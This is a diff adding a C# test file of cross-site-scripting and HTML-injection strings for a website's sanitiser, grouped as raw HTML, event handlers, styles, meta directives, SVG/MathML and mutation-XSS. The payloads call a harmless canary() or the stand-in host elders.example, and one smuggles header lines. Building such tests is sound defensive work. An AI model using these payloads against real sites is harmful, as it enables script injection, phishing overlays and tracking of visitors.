@@ -1,0 +1,122 @@
+namespace Praktijk.SiteTests.Attacks;
+
+/// <summary>Texts that hope to be read as HTML.</summary>
+internal static class MarkupAttacks
+{
+    public static AttackGroup RawHtml { get; } = new("raw HTML",
+    [
+        new("script element", "<script>canary()</script>"),
+        new("script element in capitals", "<SCRIPT>canary()</SCRIPT>"),
+        new("script element with a slash for a space", "<script/type=text/javascript>canary()</script>"),
+        new("script from elsewhere", "<script src=https://elders.example/x.js></script>"),
+        new("script from elsewhere without a scheme", "<script src=//elders.example/x.js></script>"),
+        new("script inside script", "<scr<script>ipt>canary()</scr</script>ipt>"),
+        new("script that is not closed", "voor <script>canary()"),
+        new("module", "<script type=module>import('https://elders.example/x.js');canary()</script>"),
+        new("iframe with a page in it", "<iframe srcdoc='<script>parent.canary()</script>'></iframe>"),
+        new("iframe with a script for an address", "<iframe src=\"javascript:parent.canary()\"></iframe>"),
+        new("object", "<object data=\"data:text/html,<script>canary()</script>\"></object>"),
+        new("embed", "<embed src=https://elders.example/x.swf>"),
+        new("form that sends elsewhere", "<form action=https://elders.example/><input name=q><button>Verder</button></form>"),
+        new("button that sends elsewhere", "<button form=p-zoekform formaction=javascript:canary()>Zoek</button>"),
+        new("dialog over the page", "<dialog open>Log in om verder te lezen</dialog>"),
+        new("picture from elsewhere", "<img src=https://elders.example/pixel.png>"),
+        new("picture with several sources", "<img srcset='https://elders.example/a.png 1x' src=x>"),
+        new("video", "<video autoplay src=https://elders.example/x.mp4 onloadstart=canary()></video>"),
+        new("portal and fenced frame", "<portal src=https://elders.example/></portal><fencedframe></fencedframe>"),
+        new("declarative shadow tree", "<div><template shadowrootmode=open><script>canary()</script></template></div>"),
+        new("comment that hides the rest", "voor <!-- en daarna niets meer"),
+        new("comment that a browser ends early", "<!--><img src=x onerror=canary()>-->"),
+        new("declaration", "<!DOCTYPE html><html onload=canary()>"),
+        new("processing instruction", "<?xml-stylesheet href=\"javascript:canary()\"?>"),
+        new("CDATA", "<![CDATA[<script>canary()</script>]]>"),
+        new("end of the page's own elements", "</p></div></main></body></html><script>canary()</script>"),
+        new("element in an element of a list", "- <li onclick=canary()>punt</li>\n- </ul><script>canary()</script>"),
+        new("element over several lines", "<div\nonmouseover\n=\ncanary()\n>tekst</div>"),
+        new("element in a quote", "> <script>\n> canary()\n> </script>"),
+        new("element between emphasis", "**<b onclick=canary()>**vet**</b>**"),
+        new("element behind an escaped backslash", "\\\\<script>canary()</script>"),
+        new("entities for the brackets", "&lt;script&gt;canary()&lt;/script&gt;"),
+        new("numeric entities for the brackets", "&#60;script&#62;canary()&#x3c;/script&#x3E;"),
+        new("entities twice", "&amp;lt;script&amp;gt;canary()&amp;lt;/script&amp;gt;"),
+        new("brackets of full width", "＜script＞canary()＜/script＞"),
+        new("select that swallows", "<select><option><script>canary()</script></select>"),
+        new("plaintext that swallows", "<plaintext>alles hierna"),
+        new("button that opens the menu of the page", "<button popovertarget=p-menu onbeforetoggle=canary()>menu</button>"),
+    ]);
+
+    public static AttackGroup Handlers { get; } = new("event handlers",
+    [
+        new("picture that fails", "<img src=x onerror=canary()>"),
+        new("picture that fails, without spaces", "<img/src=x/onerror=canary()>"),
+        new("picture that fails, with quotes of all kinds", "<img src='x' onerror=\"canary()\" alt=`x`>"),
+        new("handler in capitals with a line end", "<IMG SRC=x ONERROR\n=canary()>"),
+        new("pointer", "<b onmouseover=canary() onpointerenter=canary()>wijs aan</b>"),
+        new("focus", "<input autofocus onfocus=canary()>"),
+        new("details that open", "<details open ontoggle=canary()><summary>x</summary></details>"),
+        new("page that shows", "<body onpageshow=canary() onload=canary()>"),
+        new("animation", "<b style=animation-name:x onanimationstart=canary()>x</b>"),
+        new("marquee", "<marquee onstart=canary()>x</marquee>"),
+        new("hidden element that becomes visible", "<div hidden=until-found onbeforematch=canary()>zoek mij</div>"),
+        new("quote that ends an attribute", "\" onmouseover=\"canary()"),
+        new("apostrophe that ends an attribute", "' onmouseover='canary()"),
+        new("backtick that ends an attribute", "` onmouseover=`canary()"),
+        new("quote that ends an attribute and the element", "\"><img src=x onerror=canary()>"),
+        new("apostrophe that ends an attribute and the element", "'><img src=x onerror=canary()>"),
+        new("entities for the quote", "&quot; onmouseover=&quot;canary()"),
+        new("no quote at all", "x onmouseover=canary() x=y"),
+    ]);
+
+    public static AttackGroup Styles { get; } = new("styles",
+    [
+        new("style element", "<style>body{display:none}</style>"),
+        new("style element that loads", "<style>@import 'https://elders.example/x.css';</style>"),
+        new("style attribute that covers the page", "<b style=\"position:fixed;inset:0;background:#fff\">Log in</b>"),
+        new("style attribute that loads", "<b style=\"background:url(https://elders.example/pixel.png)\">x</b>"),
+        new("style sheet from elsewhere", "<link rel=stylesheet href=https://elders.example/x.css>"),
+        new("end of a rule", "x;}*{background:url(//elders.example/x)}"),
+        new("expression", "<b style=\"width:expression(canary())\">x</b>"),
+        new("class of the page's own", "<b class=\"melding\" data-kopieer=\"#p-citaat\">x</b>"),
+    ]);
+
+    public static AttackGroup Directives { get; } = new("directives for the browser",
+    [
+        new("meta refresh", "<meta http-equiv=refresh content=\"0;url=https://elders.example/\">"),
+        new("meta refresh to a script", "<meta http-equiv=refresh content=\"0;url=javascript:canary()\">"),
+        new("other policy", "<meta http-equiv=Content-Security-Policy content=\"script-src * 'unsafe-inline'\">"),
+        new("base", "<base href=https://elders.example/>"),
+        new("prefetch", "<link rel=prefetch href=https://elders.example/><link rel=dns-prefetch href=//elders.example>"),
+        new("manifest", "<link rel=manifest href=data:application/json,{}>"),
+        new("referrer", "<meta name=referrer content=unsafe-url>"),
+        new("header lines", "x\r\nSet-Cookie: a=b\r\n\r\n<script>canary()</script>"),
+        new("import map", "<script type=importmap>{\"imports\":{\"x\":\"https://elders.example/x.js\"}}</script>"),
+        new("speculation rules", "<script type=speculationrules>{\"prerender\":[{\"urls\":[\"https://elders.example/\"]}]}</script>"),
+    ]);
+
+    public static AttackGroup Foreign { get; } = new("SVG and MathML",
+    [
+        new("drawing with a script", "<svg><script>canary()</script></svg>"),
+        new("drawing that loads", "<svg onload=canary()></svg>"),
+        new("drawing with an animation", "<svg><animate onbegin=canary() attributeName=x dur=1s></svg>"),
+        new("drawing that sets an address", "<svg><a><set attributeName=href to=javascript:canary() /><text y=20>klik</text></a></svg>"),
+        new("drawing that uses another", "<svg><use href=\"https://elders.example/x.svg#x\"></use></svg>"),
+        new("drawing with a page in it", "<svg><foreignObject><iframe src=javascript:parent.canary()></iframe></foreignObject></svg>"),
+        new("formula with an address", "<math><maction actiontype=statusline xlink:href=javascript:canary()>x</maction></math>"),
+        new("end of a drawing of the page", "</text></svg><script>canary()</script><svg><text>"),
+        new("end of a title in a drawing", "</title><image href=x onerror=canary()><title>"),
+    ]);
+
+    public static AttackGroup Mutations { get; } = new("markup that changes when it is read again",
+    [
+        new("style inside a formula", "<math><mtext><table><mglyph><style><!--</style><img title=\"--><img src=x onerror=canary()>\">"),
+        new("noscript with an end in an attribute", "<noscript><p title=\"</noscript><img src=x onerror=canary()>\"></noscript>"),
+        new("template with an end in an attribute", "<template><p title=\"</template><img src=x onerror=canary()>\">"),
+        new("form in a form", "<form><math><mtext></form><form><mglyph><style></math><img src onerror=canary()>"),
+        new("textarea with an end in an attribute", "<textarea><a title=\"</textarea><img src=x onerror=canary()>\">"),
+        new("title with an end in an attribute", "<title><a title=\"</title><img src=x onerror=canary()>\">"),
+        new("drawing that leaves its own kind", "<svg></p><style><a title=\"</style><img src=x onerror=canary()>\">"),
+        new("frames that close", "<noframes><a title=\"</noframes><img src=x onerror=canary()>\">"),
+        new("xmp that closes", "<xmp><a title=\"</xmp><img src=x onerror=canary()>\">"),
+        new("attribute without a value that takes the next", "<a title=x/onmouseover=canary()//>x</a>"),
+    ]);
+}
